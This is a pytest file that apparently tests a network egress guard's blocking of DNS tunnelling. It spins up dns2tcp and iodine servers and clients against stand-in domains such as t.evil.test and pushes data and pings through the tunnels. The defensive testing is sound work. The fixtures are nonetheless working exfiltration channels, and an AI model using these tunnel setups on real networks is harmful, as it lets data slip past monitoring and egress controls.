# SPDX-License-Identifier: Apache-2.0
"""Programs that carry data in DNS: what they carry without penstock, they do
not with it."""
import contextlib
import os
import time

import pytest

from lab import HERE, PYTHON

SERVER = "203.0.113.67"
INNER = "10.77.0.1"

# What a workload would run: a client of dns2tcp, and a word through it.
DNS2TCP = """
import socket, subprocess, sys, time
server, domain, seconds = sys.argv[1:]
p = subprocess.Popen(["dns2tcpc", "-z", domain, "-r", "echo", "-l", "2222",
                      "-d", "1", server], stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
try:
    end = time.monotonic() + float(seconds)
    got = b""
    while time.monotonic() < end and p.poll() is None and not got:
        try:
            with socket.create_connection(("127.0.0.1", 2222), 2) as s:
                s.settimeout(2)
                s.sendall(b"carried by names\\n")
                while data := s.recv(100):
                    got += data
                    if b"names" in got:
                        break
        except OSError:
            time.sleep(0.2)
    print("got", got.decode("latin1"))
finally:
    p.kill()
    p.wait()
"""


@contextlib.contextmanager
def dns2tcp(lab):
    """Its server, for t.evil.test; it leads to the world's echo."""
    conf = os.path.join(lab.dir, "dns2tcpd.conf")
    with open(conf, "w") as f:
        f.write("listen = %s\nport = 53\nuser = nobody\nchroot = %s\n"
                "domain = t.evil.test\nresources = echo:203.0.113.15:7000\n"
                % (SERVER, lab.dir))
    p = lab.start("world", "dns2tcpd", "-F", "-f", conf, log="dns2tcpd")
    try:
        yield
    finally:
        lab.stop(p)


@pytest.fixture(autouse=True, scope="module")
def address(lab):
    lab.ip("world", "addr", "add", SERVER + "/32", "dev", "lo")
    yield
    lab.ip("world", "addr", "del", SERVER + "/32", "dev", "lo")


@pytest.mark.parametrize("mode", ("gateway", "shared"))
def test_w6_b049_dns2tcp_carries_nothing(lab, mode):
    with dns2tcp(lab):
        lab.unguarded(mode)
        r = lab.python(DNS2TCP, SERVER, "t.evil.test", "6")
        assert "carried by names" in r.out, r
        lab.up(mode)
        try:
            for server in (SERVER, "203.0.113.53"):
                r = lab.python(DNS2TCP, server, "t.evil.test", "2")
                assert "got" in r.out and "carried" not in r.out, r
            # its names have letters that no host's name has
            assert lab.record(kind="dns", verdict="deny",
                              reason="name_malformed")
            with open(os.path.join(lab.dir, "asked")) as f:
                assert "t.evil.test" not in f.read()
        finally:
            lab.down()


@contextlib.contextmanager
def iodine(lab, *options):
    """Its server in the world, for t.wild.test and under any name."""
    p = lab.start("world", "iodined", "-f", "-c", "-P", "word", "-l", SERVER,
                  *options, INNER, "t.wild.test", log="iodined")
    try:
        yield
    finally:
        lab.stop(p)


@contextlib.contextmanager
def nothing_at_any_name(lab):
    """Where its server takes what is not its own: it is there, and has no
    address, as the aliases that carry its answers to questions of type A."""
    zone = os.path.join(lab.dir, "zone.nothing")
    with open(zone, "w") as f:
        f.write('{"*": {}}')
    p = lab.start("world", PYTHON, HERE + "/dnsserver.py", "127.0.0.1", "5353",
                  zone, os.path.join(lab.dir, "asked.nothing"), stdout=-1)
    try:
        assert p.stdout.readline() == b"ready\n"
        yield "-b", "5353"
    finally:
        lab.stop(p)


# Pings out of the tunnel's own device, with more in each than one name takes:
# a tunnel is known by how many names it takes.
PING = """
import os, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
s.settimeout(2)
try:
    s.setsockopt(socket.SOL_SOCKET, 25, b"carried")
    for i in range(4):
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 7, i) + os.urandom(300) +
                 b"out", (sys.argv[1], 0))
        got = s.recv(2000)
    print("got", got[-3:].decode())
except OSError as e:
    print("error", e)
"""


def through(lab, resolver, kind):
    """A ping through the tunnel, by a client that may make one."""
    space = lab.agent_space
    # in letters that any name may have: what it finds by itself may be more
    p = lab.start(space, "iodine", "-f", "-r", "-T", kind, "-O", "Base32",
                  "-m", "100", "-P", "word", "-L", "0", "-I", "1", "-d",
                  "carried", resolver, "t.wild.test", log="iodine")
    try:
        end = time.monotonic() + 20
        while time.monotonic() < end and p.poll() is None:
            r = lab.run(space, PYTHON, "-c", PING, INNER)
            if "got out" in r.out:
                return True
            time.sleep(0.3)
        return False
    finally:
        lab.stop(p)


POLICY = """\
version: 1
network:
  resolvers: [%s]
  lab: [203.0.113.0/24]
  rule:
    - {verdict: allow, hostname: "*.wild.test"}
""" % SERVER


def test_w6_iodine_carries_nothing(lab):
    """An allowed wildcard does not let it either: what its answers would
    stand in is of no type that the front asks for."""
    with iodine(lab):
        lab.unguarded("gateway")
        for kind in ("NULL", "TXT"):
            assert through(lab, SERVER, kind)
        lab.up("gateway", POLICY)
        try:
            for kind, number in (("NULL", 10), ("TXT", 16)):
                assert not through(lab, "203.0.113.53", kind)
                assert lab.record(kind="dns", qtype=number, verdict="deny",
                                  reason="dns_type")
        finally:
            lab.down()


def test_w6_names_of_a_wildcard_carry_nothing_where_tunnels_are_denied(lab):
    """Questions for addresses, answers in aliases: nothing but what the names
    look like tells it from any other."""
    with nothing_at_any_name(lab) as options, iodine(lab, *options):
        lab.unguarded("gateway")
        assert through(lab, SERVER, "A")
        for action, carried in (("record", True), ("deny", False)):
            lab.up("gateway", POLICY, extra="dns: {tunnel: %s}\n" % action)
            try:
                assert through(lab, "203.0.113.53", "A") == carried
                assert lab.record(kind="dns", reason="tunnel",
                                  verdict="allow" if carried else "deny")
            finally:
                lab.down()
